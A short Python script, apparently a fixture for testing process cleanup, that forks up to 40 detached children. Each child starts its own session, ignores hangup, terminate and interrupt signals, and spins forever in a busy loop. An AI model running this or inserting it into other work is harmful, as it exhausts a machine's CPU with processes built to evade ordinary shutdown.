"""Leaves processes behind that do nothing but work, each in a session of its own."""

import os
import signal

for _ in range(40):
    try:
        if os.fork():
            continue
    except OSError:
        break
    os.setsid()
    for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    while True:
        pass
